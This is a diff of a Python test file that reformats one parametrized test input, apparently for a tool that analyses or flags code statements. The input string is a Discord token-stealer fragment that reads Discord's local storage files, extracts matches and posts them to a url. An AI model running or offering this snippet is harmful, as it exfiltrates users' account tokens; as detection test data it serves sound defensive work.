@@ -152,7 +152,8 @@ def test_a_statement_too_deep_to_follow_is_followed_by_its_words() -> None:
         ),
         (
             "found = []\nd = os.path.expanduser('~/.config/discord/Local Storage/leveldb/*')\n"
-            "for f in glob.glob(d):\n    found += re.findall(pattern, open(f).read())\nrequests.post(url, json=found)"
+            "for f in glob.glob(d):\n    found += re.findall(pattern, open(f).read())\n"
+            "requests.post(url, json=found)"
         ),
     ],
 )
